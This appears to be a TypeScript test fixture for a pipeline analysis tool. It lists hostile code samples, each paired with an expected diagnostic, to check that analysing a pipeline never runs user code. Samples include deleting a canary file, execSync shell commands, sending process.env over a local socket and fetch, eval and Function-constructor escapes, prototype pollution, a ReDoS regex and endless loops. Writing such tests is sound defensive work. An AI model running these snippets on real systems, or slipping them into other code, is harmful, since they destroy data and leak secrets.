import { head, inBody, topLevel, whole, type Attack } from "./attack.ts";

const remove = (canary: string) => `(require("node:fs")).rmSync(${JSON.stringify(canary)})`;

/** Files that would do harm if anything in them were ever run. */
export const effects: readonly Attack[] = [
  topLevel("deletes a file", ({ canary }) => `import { rmSync } from "node:fs"; rmSync(${JSON.stringify(canary)});`),
  topLevel("empties a file", ({ canary }) => `import * as fs from "node:fs"; fs.writeFileSync(${JSON.stringify(canary)}, "");`),
  topLevel(
    "runs a command",
    ({ canary }) => `import { execSync } from "node:child_process"; execSync("rm -f " + ${JSON.stringify(canary)});`,
  ),
  topLevel(
    "opens a socket",
    ({ port }) => `import net from "node:net"; net.connect(${port}, "127.0.0.1").write(JSON.stringify(process.env));`,
  ),
  topLevel("fetches", ({ port }) => `await fetch("http://127.0.0.1:${port}/" + Object.keys(process.env).join());`),
  topLevel("leaves", "process.exit(0);"),
  topLevel("ends the process", "process.kill(process.pid, 9); process.abort();"),
  topLevel("never ends", "while (true) {}"),
  topLevel("waits for ever", "await new Promise(() => {});"),
  topLevel("calls itself for ever", "function again(): never { return again(); }\nagain();"),
  topLevel("throws", "throw new Error('never');"),
  topLevel(
    "evaluates text",
    `eval("globalThis.pwned = true"); new Function("globalThis.pwned = true")(); (0, eval)("globalThis.pwned = true");`,
  ),
  topLevel(
    "loads modules",
    ({ canary }) => `await import("node:fs").then((fs) => fs.rmSync(${JSON.stringify(canary)})); ${remove(canary)};`,
  ),
  topLevel(
    "writes globals",
    "(globalThis as any).pwned = true; (global as any).pwned = true; Object.defineProperty(globalThis, 'pwned', { value: true });",
  ),
  topLevel(
    "pollutes prototypes",
    "(Object.prototype as any).pwned = true; ({} as any).__proto__.pwned = true; (Array.prototype as any).map = () => []; ({} as any).constructor.prototype.pwned = true;",
  ),
  topLevel(
    "installs handlers",
    "setInterval(() => {}, 1); process.on('exit', () => { (globalThis as any).pwned = true; }); Promise.reject(new Error('unhandled')); queueMicrotask(() => { (globalThis as any).pwned = true; });",
  ),
  topLevel(
    "runs in a class",
    ({ canary }) => `class Trap { static { ${remove(canary)}; } static x = ${remove(canary)}; [${remove(canary)}] = 1; }`,
  ),
  topLevel(
    "runs in a decorator",
    "const trap = (..._: unknown[]) => { (globalThis as any).pwned = true; };\n@trap class Trapped { @trap method() {} }",
  ),
  topLevel("runs in an export", ({ canary }) => `export const trap = { get value() { ${remove(canary)}; return 1; } };`, "ARG2001"),
  topLevel("runs where a value is made that the pipeline does not need", ({ canary }) => `const trap = ${remove(canary)};`),
  topLevel("runs in an enum", ({ canary }) => `enum Trap { A = ${remove(canary)} }`),
  topLevel("runs in a namespace", ({ canary }) => `namespace Trap { ${remove(canary)}; }`),
  topLevel("imports by old means", `import fs = require("node:fs"); fs.rmSync("x");`),
  topLevel("names itself a module of another kind", "module.exports = { main: 1 }; exports.main = 2;"),
  whole(
    "begins with a shebang and pragmas",
    `#!/usr/bin/env -S node -e "globalThis.pwned = true"\n// @ts-nocheck\n/// <reference path="/etc/passwd" />\n/** @jsx evil */\n"use asm";\n${head}export const main = pipeline(() => { show({}); });\n//# sourceMappingURL=data:application/json;base64,e30=`,
  ),

  inBody("deletes a file in a pipeline", ({ canary }) => `${remove(canary)}; show({});`, "ARG2001"),
  inBody("deletes a file in an argument", ({ canary }) => `show({ value: ${remove(canary)} });`, "ARG2001"),
  inBody("deletes a file in a default", "show({ value: a });", "ARG2001", `{ a = require("node:fs").rmSync("x") }`),
  inBody("deletes a file in a key", ({ canary }) => `show({ value: { [${remove(canary)}]: 1 } });`, "ARG2001"),
  inBody(
    "deletes a file in an option's getter",
    ({ canary }) => `show({}, { get timeout() { ${remove(canary)}; return "1m"; } });`,
    "ARG2001",
  ),
  inBody("deletes a file in a branch", ({ canary }) => `if (flag) ${remove(canary)};`, "ARG2001", "{ flag = true }"),
  inBody("leaves in a pipeline", "process.exit(0);", "ARG2001"),
  inBody("evaluates text in a pipeline", `eval("globalThis.pwned = true"); new Function("globalThis.pwned = true")();`, "ARG2001"),
  inBody("finds the function constructor", `show({ value: (() => {}).constructor("globalThis.pwned = true")() });`, "ARG2016"),
  inBody("finds the function constructor through a list", `show({ value: [].map.constructor("globalThis.pwned = true")() });`, "ARG2001"),
  inBody("finds it through a text", `show({ value: "".constructor.constructor("globalThis.pwned = true")() });`, "ARG2001"),
  inBody("finds it through an object", `show({ value: ({}).constructor.constructor("globalThis.pwned = true")() });`, "ARG2016"),
  inBody("finds it through what argots knows", `show({ value: Math.constructor("globalThis.pwned = true") });`, "ARG2001"),
  inBody(
    "finds it through the name of a property",
    `const key = "con" + "structor"; show({ value: Object[key]("globalThis.pwned = true") });`,
    "ARG2001",
  ),
  inBody("calls through a prototype", `show({ value: Object.prototype.hasOwnProperty.call({}, "a") });`, "ARG2001"),
  inBody("assigns to a prototype", `({} as any).__proto__.pwned = true; (Object as any).prototype.pwned = true; show({});`, "ARG2001"),
  inBody("assigns `__proto__`", `const o: any = {}; o["__proto__"] = { pwned: true }; o.constructor = 1; show({ value: o });`),
  inBody("makes an object with a prototype", `show({ value: { __proto__: { pwned: true } } });`, "ARG2001"),
  inBody(
    "makes data called as what objects inherit",
    `show({ value: { ["__proto__"]: { pwned: true }, constructor: 1, toString: 2, hasOwnProperty: null, valueOf: [{ toJSON: 1 }, { constructor: 2 }, {}] } });`,
  ),
  inBody(
    "parses data called as what objects inherit",
    `show({ value: JSON.parse('{"__proto__": {"pwned": true}, "constructor": {"prototype": {"pwned": true}}}') });`,
  ),
  inBody(
    "makes entries called as what objects inherit",
    `show({ value: Object.fromEntries([["__proto__", { pwned: true }], ["constructor", 1]]) });`,
  ),
  inBody(
    "defines how it is turned into text",
    `show({ value: \`\${{ toString() { globalThis.pwned = true; return "a"; } }}\` });`,
    "ARG2014",
  ),
  inBody("defines how it is turned into JSON", `show({ value: { toJSON: () => { globalThis.pwned = true; } } });`, "ARG2044"),
  inBody(
    "defines how it is gone through",
    `for (const x of { [Symbol.iterator]: function* () { while (true) yield 1; } }) show({ value: x });`,
    "ARG2001",
  ),
  inBody("goes through a generator", `function* all() { while (true) yield 1; }\nfor (const x of all()) show({ value: x });`, "ARG2001"),
  inBody("hides in a proxy", `show(new Proxy({}, { get: () => { (globalThis as any).pwned = true; }, ownKeys: () => [] }));`, "ARG2001"),
  inBody(
    "pretends to be a promise",
    `await { then(resolve: () => void) { (globalThis as any).pwned = true; while (true) {} } }; show({});`,
  ),
  inBody("hides in a tagged template", "String.raw`${require('node:fs')}`;", "ARG2001"),
  inBody("hides in a regular expression", `show({ value: /(a+)+$/.test("${"a".repeat(60)}!") });`, "ARG2001"),
  inBody("hides in a replacement", `show({ value: "a".replace("a", () => { globalThis.pwned = true; }) });`, "ARG2024"),
  inBody("imports in a pipeline", `const fs = await import("node:fs"); fs.rmSync("x");`, "ARG2001"),

  whole("imports a file that deletes another", ({ canary }) => ({
    "main.pipeline.ts": `${head}import { value } from "./evil.ts";\nexport const main = pipeline(() => { show({ value }); });`,
    "evil.ts": `${remove(canary)}; while (true) {}\nexport const value = 1;`,
  })),
  whole("bundles a file that deletes another", ({ canary }) => ({
    "main.pipeline.ts": `${head}import { helper } from "./evil.ts";\nconst run = component({ image }, (): number => helper());\nexport const main = pipeline(() => { run({}); });`,
    "evil.ts": `import { rmSync } from "node:fs"; rmSync(${JSON.stringify(canary)}); globalThis.pwned = true;\nexport const helper = (): number => 1;`,
  })),
  whole("has a component that leaves and deletes", ({ canary }) => ({
    "main.pipeline.ts": `${head}const run = component({ image }, () => { ${remove(canary)}; process.exit(1); });\nexport const main = pipeline(() => { run({}); });`,
  })),
  whole("has a Python file that deletes another", ({ canary }) => ({
    "main.pipeline.ts": `${head}const step = python<{ n: number }, number>("./evil.py#step", { image });\nexport const main = pipeline(() => { step({ n: 1 }); });`,
    "evil.py": `import os, sys\nos.remove(${JSON.stringify(canary)})\n__import__("os").system("touch pwned")\nclass Meta(type):\n    def __new__(cls, *a): os.abort()\ndef deco(f):\n    os.remove(${JSON.stringify(canary)})\n    return f\n@deco\ndef step(n: int = os.remove(${JSON.stringify(canary)})) -> int:\n    return n\n`,
  })),
  whole("has a Python file that deletes another at its top", ({ canary }) => ({
    "main.pipeline.ts": `${head}const step = python<{ n: number }, number>("./evil.py#step", { image });\nexport const main = pipeline(() => { step({ n: 1 }); });`,
    "evil.py": `import os\nos.remove(${JSON.stringify(canary)})\nwhile True: pass\ndef step(n: int) -> int:\n    return n\n`,
  })),
  whole("imports data called as what objects inherit", {
    "main.pipeline.ts": `${head}import data from "./data.json"; import { constructor as c } from "./data.json";\nexport const main = pipeline(() => { show({ value: [data, data["__proto__"], c, { ...data }] }); });`,
    "data.json": `{ "__proto__": { "pwned": true }, "constructor": { "prototype": { "pwned": true } }, "toString": 1 }`,
  }),
  whole(
    "declares inputs called as what objects inherit",
    `${head}const odd = container((i: { constructor: string; toString?: number; valueOf: { hasOwnProperty: boolean } }) => ({ image, command: [i.constructor] }));\nexport const main = pipeline(({ constructor = "a" }) => { odd({ constructor, toString: 1, valueOf: { hasOwnProperty: true } }); });`,
  ),
  whole(
    "leaves such inputs out",
    `${head}const odd = container((i: { constructor: string; toString: number }) => ({ image, command: [i.constructor] }));\nexport const main = pipeline(() => { odd({}); });`,
    "ARG2042",
  ),
  whole(
    "declares an input called `__proto__`",
    `${head}const odd = container((i: { __proto__: string; other: number }) => ({ image, command: ["x"] }));\nexport const main = pipeline(() => { odd({ ["__proto__"]: "a", other: 1 }); });`,
  ),
  whole(
    "exports names that objects inherit",
    `${head}export const toString = 1; export const constructor = pipeline(() => { show({}); }); export const hasOwnProperty = pipeline(() => { show({}); }); export const __proto__ = pipeline(() => { show({}); });`,
  ),
];
